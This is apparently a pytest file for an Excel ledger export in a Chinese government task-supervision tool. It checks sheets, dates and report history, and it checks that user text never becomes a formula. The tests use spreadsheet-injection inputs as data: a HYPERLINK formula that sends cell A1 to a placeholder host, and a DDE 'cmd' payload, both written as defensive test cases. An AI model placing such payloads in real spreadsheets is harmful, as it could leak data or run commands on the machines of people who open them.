"""The Excel 台账: tasks with every report field, the full report history, plan changes;
real dates, and text that is always text."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from openpyxl import load_workbook

from domain.enums import ProgressStatus
from domain.records import ProgressInput
from domain.schedule import Deadline
from models.store import Store
from supervision.ledger import write_ledger
from supervision.ledger_rows import HISTORY_HEADERS, TASK_HEADERS
from tests.exchange.offices import office

D = dt.date
POLICE = "省公安厅"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点此")'


def column(headers: tuple[tuple[str, int], ...], name: str) -> int:
    return [h for h, _ in headers].index(name)


def ledger_office(tmp_path: Path) -> Store:
    coord = office(tmp_path, "coord", None)
    t23 = coord.find_task_id(None, 23)
    coord.set_deadline(Deadline(date=D(2026, 6, 30)), task_id=t23, reason="省政府要求")
    first = coord.record_progress(
        ProgressInput(
            task_id=t23,
            unit_id=coord.find_unit_id(POLICE),
            status=ProgressStatus.IN_PROGRESS,
            percent=30,
            report_date=D(2026, 4, 20),
            work_done="部署专项行动。",
            reporter="王喆",
        )
    )
    coord.record_progress(
        ProgressInput(
            task_id=t23,
            unit_id=coord.find_unit_id(POLICE),
            status=ProgressStatus.IN_PROGRESS,
            percent=40,
            report_date=D(2026, 4, 25),
            work_done=FORMULA,
            problems="跨省协查周期长。",
            next_steps="5月底前完成第二阶段。",
            reporter="王喆",
            phone="0451-8888",
            parent_revision_id=first.revision_id,
            reason="补充问题与打算",
        )
    )
    return coord


def test_ledger_has_tasks_history_and_changes(tmp_path: Path) -> None:
    coord = ledger_office(tmp_path)
    view, lights = coord.lights(D(2026, 5, 1))
    t23 = next(t for t in view.all_tasks() if t.number == 23)
    history = {t.id: coord.progress_history(t.id) for t in view.all_tasks()}
    path = write_ledger(
        view,
        lights,
        D(2026, 5, 1),
        tmp_path / "台账.xlsx",
        history=history,
        changes=coord.plan_change_log(view.id),
    )
    book = load_workbook(path)
    assert book.sheetnames == ["督办台账", "报送记录", "计划修订记录"]
    tasks = book["督办台账"]
    assert [c.value for c in tasks[2]] == [h for h, _ in TASK_HEADERS]
    row = next(r for r in tasks.iter_rows(min_row=3) if r[0].value == 23)
    deadline = row[column(TASK_HEADERS, "完成时限")]
    latest = row[column(TASK_HEADERS, "最近报送")]
    assert deadline.is_date and deadline.value.date() == D(2026, 6, 30)
    assert latest.is_date and latest.value.date() == D(2026, 4, 25)
    assert row[column(TASK_HEADERS, "存在问题")].value == "跨省协查周期长。"
    assert row[column(TASK_HEADERS, "下一步计划")].value == "5月底前完成第二阶段。"
    assert row[column(TASK_HEADERS, "填报人")].value == "王喆　0451-8888"
    assert row[column(TASK_HEADERS, "状态")].value == lights[t23.id].light.label_zh
    # A report that looks like a formula stays text.
    progress = row[column(TASK_HEADERS, "最新进展")]
    assert progress.data_type == "s" and FORMULA in progress.value
    reports = [r for r in book["报送记录"].iter_rows(min_row=3) if r[0].value == 23]
    assert [r[column(HISTORY_HEADERS, "进度(%)")].value for r in reports] == [30, 40]
    notes = [r[column(HISTORY_HEADERS, "说明")].value for r in reports]
    # The office typed them in for the police: said on each.
    assert notes == ["已被修改；协调办公室代为录入", "当前；协调办公室代为录入"]
    work = reports[1][column(HISTORY_HEADERS, "工作进展")]
    assert work.data_type == "s" and work.value == FORMULA
    assert reports[0][column(HISTORY_HEADERS, "报送日期")].is_date
    changes = list(book["计划修订记录"].iter_rows(min_row=3, values_only=True))
    assert [(c[1], c[2], c[3], c[4]) for c in changes] == [
        ("完成时限", 23, "2026年6月30日前完成", "省政府要求")
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "B3" and sheet.print_title_rows == "$2:$2"
        assert sheet.auto_filter.ref.startswith("A2:")


def test_ledger_command_writes_all_sheets(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    db = str(tmp_path / "c.sqlite")
    assert cli("office", "--db", db, "--coordinating-office").code == 0
    assert cli("deadline", "--db", db, "--task", "23", "--date", "2026-06-30").code == 0
    result = cli("ledger", "--db", db, "--as-of", "2026-07-01", "-o", str(tmp_path / "l.xlsx"))
    assert result.code == 0, result.err
    book = load_workbook(tmp_path / "l.xlsx")
    assert book.sheetnames == ["督办台账", "报送记录", "计划修订记录"]
    assert book["计划修订记录"].max_row == 3


def test_no_text_anywhere_in_the_ledger_becomes_a_formula(tmp_path: Path) -> None:
    """Task text, reasons, reports, reporters: every text the office or a unit typed is
    written as a string; the saved workbook holds no formula at all."""
    import zipfile

    coord = ledger_office(tmp_path)
    t23 = coord.find_task_id(None, 23)
    starts = ("=", "+", "-", "@", "=cmd|' /C calc'!A0")
    coord.edit_task(t23, text=f"{FORMULA} 加大打击力度", reason="+1 申请")
    coord.set_deadline(Deadline(date=D(2026, 7, 31)), task_id=t23, reason="@SUM(A1:A9)")
    view, lights = coord.lights(D(2026, 5, 1))
    history = {t.id: coord.progress_history(t.id) for t in view.all_tasks()}
    path = write_ledger(
        view, lights, D(2026, 5, 1), tmp_path / "台账.xlsx", history=history,
        changes=coord.plan_change_log(view.id),
    )  # fmt: skip
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all(b"<f>" not in book.read(n) for n in sheets)
        assert all(b"<f " not in book.read(n) for n in sheets)
    loaded = load_workbook(path)
    texts = [
        c
        for sheet in loaded.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(starts)
    ]
    assert {c.value for c in texts} >= {f"{FORMULA} 加大打击力度", "+1 申请", "@SUM(A1:A9)"}
    assert all(c.data_type == "s" for c in texts)
